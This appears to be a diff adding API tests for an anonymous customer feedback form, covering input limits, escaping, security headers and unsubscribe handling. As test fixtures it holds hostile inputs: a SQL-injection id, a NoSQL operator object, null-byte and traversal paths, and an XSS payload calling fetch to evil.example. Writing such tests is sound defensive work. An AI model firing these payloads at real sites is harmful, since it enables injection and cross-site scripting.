@@ -574,3 +574,102 @@ describe("paths", () => {
     }
   });
 });
+
+describe("a customer's form", () => {
+  const said = {
+    ...{ winnerBetter: "", compared: "", leastUnderstood: "", winAgain: null, winAgainNote: "", whoDecided: "" },
+    ...{ quote: "", quoteConsent: "no", reasons: [], priorities: [], recommendations: [] },
+  };
+  /** Nobody is signed in: what the form does, it does by its secret. */
+  const nobody = { cookie: "" };
+  const ask = (what: string, body: object) => send("POST", `/api/answer-form/${what}`, body, nobody);
+
+  async function openLink(): Promise<string> {
+    const { postMortemId, invitationId } = team.deals.rob;
+    const path = `/api/post-mortems/${postMortemId}/invitations/${invitationId}/link`;
+    const { told } = await send("POST", path, {}, admin);
+    return String(told.url).split("#")[1] ?? "";
+  }
+
+  it("refuses answers that nobody types, and keeps those that were there", async () => {
+    const secret = await openLink();
+    const kept = { ...said, whoDecided: "The board" };
+    expect((await ask("save", { secret, language: "en", version: 0, answers: kept })).status).toBe(200);
+    const huge = "x".repeat(1024 * 1024);
+    const rating = { priorityId: null, name: "Price", importance: 5, us: null, winner: null };
+    const bad: object[] = [
+      { winnerBetter: huge },
+      { quote: "x".repeat(1_001) },
+      { otherReason: huge },
+      { recommendations: [{ id: randomUUID(), words: huge }] },
+      { recommendations: Array.from({ length: 6 }, () => ({ id: randomUUID(), words: "x" })) },
+      { recommendations: [{ id: "1; drop table deals", words: "x" }] },
+      { priorities: Array.from({ length: 5_000 }, (_, at) => ({ ...rating, name: `P ${at}` })) },
+      { priorities: [{ ...rating, importance: 9 }] },
+      { priorities: [{ ...rating, us: "5" }] },
+      { reasons: [{ reasonId: "price", note: "" }] },
+      { quoteConsent: "always" },
+      { winAgain: "never" },
+      { whoDecided: "a\0b" },
+      { whoDecided: "half \uD83D" },
+      { givenAt: "2026-01-01T00:00:00Z" },
+      { winnerBetter: { toString: "x" } },
+    ];
+    for (const part of bad) {
+      for (const what of ["save", "give"]) {
+        const { status, told } = await ask(what, { secret, language: "en", version: 1, answers: { ...said, ...part } });
+        expect.soft(status, JSON.stringify(part).slice(0, 80)).toBe(400);
+        expect.soft(JSON.stringify(told)).not.toMatch(innards);
+      }
+    }
+    const beyond = await raw("POST", "/api/answer-form/give", JSON.stringify({ secret, answers: huge.repeat(3) }), {
+      ...json,
+      ...nobody,
+    });
+    expect(beyond.status).toBe(413);
+    for (const wrong of [huge, "", 5, null, ["x"], { $ne: 1 }]) {
+      const { status } = await ask("open", { secret: wrong });
+      expect(status).toBe(400);
+    }
+    const { told } = await ask("open", { secret });
+    expect(told).toMatchObject({ version: 1, answers: { whoDecided: "The board" }, givenAt: null });
+  });
+
+  it("keeps scripts as the text they are, and sends nothing that a browser would run", async () => {
+    const secret = await openLink();
+    const { told: before } = await ask("open", { secret });
+    const script = '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>{{constructor}}';
+    const answers = {
+      ...said,
+      winnerBetter: script,
+      quote: script,
+      recommendations: [{ id: randomUUID(), words: script }],
+    };
+    expect((await ask("give", { secret, language: "en", version: before.version, answers })).status).toBe(200);
+    const opened = await ask("open", { secret });
+    expect(opened.told.answers).toMatchObject({ winnerBetter: script, quote: script });
+    expect(opened.headers.get("content-type")).toContain("application/json");
+    expect(opened.headers.get("x-content-type-options")).toBe("nosniff");
+    expect(opened.headers.get("cache-control")).toContain("no-store");
+    const read = await send("GET", `/api/post-mortems/${team.deals.rob.postMortemId}`, undefined, admin);
+    expect(read.told.form.answers.winnerBetter).toBe(script);
+    for (const path of ["/answer", "/answer/stop/made-up"]) {
+      const page = await send("GET", path, undefined, nobody);
+      expect(page.headers.get("referrer-policy")).toBe("no-referrer");
+      expect(page.headers.get("content-security-policy")).toMatch(/default-src 'none'; script-src 'self';/);
+    }
+  });
+
+  it("ends no mails for who made the link up, however they ask", async () => {
+    for (const path of [
+      "/answer/stop/made-up",
+      `/answer/stop/${"A".repeat(87)}`,
+      "/answer/stop/%00",
+      "/answer/stop/..",
+    ]) {
+      const { status, text } = await raw("POST", path, "List-Unsubscribe=One-Click", nobody);
+      expect.soft([404, 405, 410], path).toContain(status);
+      expect.soft(text).not.toMatch(innards);
+    }
+  });
+});
